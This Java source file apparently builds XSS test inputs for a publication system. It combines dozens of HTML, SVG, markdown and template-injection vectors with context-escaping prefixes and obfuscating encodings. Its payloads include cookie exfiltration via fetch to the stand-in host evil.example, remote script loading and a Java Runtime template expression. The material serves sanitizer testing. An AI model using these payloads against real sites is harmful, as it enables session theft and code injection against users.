// SPDX-License-Identifier: Apache-2.0
package org.tatabbu.publication;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.function.Predicate;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Texts that try to run in the page of whoever reads them, put together from the known classes of attack: where the text
 * stands and how it gets out of there, what would then run, and how it is spelled. Whatever runs sets {@code ran}, opens a
 * dialog or asks {@code evil.example} for something.
 */
final class Payloads {
    private static final List<String> DEEDS = List.of(
            "ran=1",
            "top['ran']=1",
            "alert(1)",
            "eval('ran=1')",
            "Function('ran=1')()",
            "setTimeout('ran=1')",
            "[1].map(x=>ran=x)",
            "fetch('//evil.example/?'+document.cookie)",
            "location='//evil.example/'",
            "import('//evil.example/x.js')",
            "new Image().src='//evil.example/i'",
            "navigator.sendBeacon('//evil.example/')");

    private static final List<String> WAYS_OUT = List.of(
            "",
            "\">",
            "'>",
            "`>",
            "</title>",
            "</textarea>",
            "</bdi></strong>",
            "</p></li></ol>",
            "</script>",
            "</style>",
            "--><!--x-->",
            "]]>",
            "</noscript>",
            "</select>",
            "</svg>",
            "</template>",
            "</h1></main>",
            "\n\n");

    /** {@code %s} is the deed. */
    static final List<String> VECTORS = List.of(
            "<script>%s</script>",
            "<script src=//evil.example/x.js></script>",
            "<script src=data:,ran=1></script>",
            "<script type=module>%s</script>",
            "<img src=x onerror=\"%s\">",
            "<img/src=x/onerror=\"%s\">",
            "<img src=//evil.example/i>",
            "<img srcset='//evil.example/i 1x'>",
            "<svg onload=\"%s\">",
            "<svg/onload=\"%s\"/>",
            "<svg><script>%s</script></svg>",
            "<svg><script href=data:,ran=1></script></svg>",
            "<svg><animate onbegin=\"%s\" attributeName=x dur=1s>",
            "<svg><a href=\"javascript:%s\"><text y=9>x</text></a>",
            "<svg><use href=//evil.example/x.svg#x>",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"%s\">",
            "<body onload=\"%s\">",
            "<iframe srcdoc='<script>top.ran=1</script>'>",
            "<iframe src=\"javascript:%s\">",
            "<iframe src=//evil.example/>",
            "<object data=\"javascript:%s\">",
            "<object data=//evil.example/x>",
            "<embed src=\"javascript:%s\">",
            "<a href=\"javascript:%s\" autofocus onfocus=\"%s\">x</a>",
            "<input autofocus onfocus=\"%s\">",
            "<button autofocus onfocus=\"%s\" formaction=//evil.example/>x",
            "<details open ontoggle=\"%s\">x",
            "<video src=x onerror=\"%s\">",
            "<audio src=//evil.example/a autoplay>",
            "<video poster=//evil.example/p>",
            "<marquee onstart=\"%s\">x",
            "<select autofocus onfocus=\"%s\">",
            "<i tabindex=1 autofocus onfocus=\"%s\">x",
            "<style>@import'//evil.example/x.css';</style>",
            "<style onload=\"%s\">x{}</style>",
            "<p style=\"background:url(//evil.example/i)\">x",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<link rel=prefetch href=//evil.example/>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content='0;url=//evil.example/'>",
            "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
            "<form action=//evil.example/><input type=submit autofocus>",
            "<template shadowrootmode=open><img src=x onerror=\"%s\"></template>",
            "<xmp><p title=\"</xmp><img src=x onerror='ran=1'>\">",
            "<noscript><p title=\"</noscript><img src=x onerror='ran=1'>\">",
            "<p onmouseover=\"%s\" onclick=\"%s\">x",
            "<p style=animation-name:x onanimationstart=\"%s\">x",
            "<x contenteditable onblur=\"%s\" onfocus=\"%s\" autofocus>x",
            "\" onmouseover=\"%s\" autofocus onfocus=\"%s\" x=\"",
            "' autofocus onfocus='ran=1' x='",
            "javascript:%s",
            "data:text/html,<script>ran=1</script>",
            "[x](javascript:%s)",
            "[x](JaVaScRiPt:%s \"t\")",
            "[x](<java\tscript:%s>)",
            "[x](&#106;avascript:%s)",
            "[x](data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==)",
            "[x](vbscript:x \"onfocus=ran=1\")",
            "![x](//evil.example/i.png)",
            "![x\" onerror=\"%s](x)",
            "![x](x \"t\" onerror=\"%s\")",
            "[x]: javascript:%s\n\n[x][x]",
            "<javascript:%s>",
            "[![x](x)](javascript:%s)",
            "```\"><script>\n%s\n```",
            "${%s}",
            "{{constructor.constructor('ran=1')()}}",
            "#{T(java.lang.Runtime).getRuntime()}",
            "<%% out.print(1) %%><script>%s</script>",
            "{0,choice,0#<script>%s</script>}",
            "{name} '{'<script>%s</script>'}'");

    private static final List<UnaryOperator<String>> SPELLINGS = List.of(
            UnaryOperator.identity(),
            text -> text.replaceAll("(?i)script", "ScRiPt").replace(" on", " ON"),
            text -> text.replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;"),
            text -> text.replace("<", "&#x3c;").replace(":", "&colon;"),
            text -> URLEncoder.encode(text, StandardCharsets.UTF_8),
            text -> text.replace("<", "\\u003c").replace("'", "\\x27"),
            text -> text.replace("<", "\uff1c").replace(">", "\uff1e"),
            text -> text.replace("<", "+ADw-").replace(">", "+AD4-"),
            text -> text.replace(" on", "\non").replace("<", "<\n"),
            text -> text.replace(" on", "/on").replace("=\"", " = \""),
            text -> "<" + text,
            text -> Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8)));

    static final List<String> ALL = all();

    private Payloads() {}

    /** The vectors as they are, each with the plainest deed. */
    static Stream<String> plain() {
        return VECTORS.stream().map(vector -> told(vector, DEEDS.getFirst()));
    }

    /** Every vector with each way out, and in each spelling; deeds take turns. */
    private static List<String> all() {
        var all = new LinkedHashSet<String>();
        for (int v = 0; v < VECTORS.size(); v++) {
            for (int w = 0; w < WAYS_OUT.size(); w++) {
                var deed = DEEDS.get((v + w) % DEEDS.size());
                var text = WAYS_OUT.get(w) + told(VECTORS.get(v), deed);
                all.add(w == 0 ? text : SPELLINGS.get(v % 2).apply(text));
            }
            var text = told(VECTORS.get(v), DEEDS.get(v % DEEDS.size()));
            SPELLINGS.forEach(spelling -> all.add(spelling.apply(text)));
        }
        return List.copyOf(all);
    }

    private static String told(String vector, String deed) {
        return vector.replace("%s", deed).replace("%%", "%");
    }

    /** Those that fit, side by side in texts of at most so many characters. */
    static List<String> packed(int longest, String between, Predicate<String> fits) {
        var texts = new ArrayList<String>();
        var text = new StringBuilder();
        for (var payload : ALL) {
            if (!fits.test(payload) || payload.length() > longest) {
                continue;
            }
            if (text.length() + between.length() + payload.length() > longest) {
                texts.add(text.toString());
                text.setLength(0);
            }
            text.append(text.isEmpty() ? "" : between).append(payload);
        }
        texts.add(text.toString());
        return texts;
    }

    /** The same texts, one in each of so many heaps in turn. */
    static List<List<String>> heaps(List<String> texts, int heaps) {
        return IntStream.range(0, heaps)
                .mapToObj(heap -> IntStream.range(0, texts.size())
                        .filter(at -> at % heaps == heap)
                        .mapToObj(texts::get)
                        .collect(Collectors.toList()))
                .toList();
    }
}
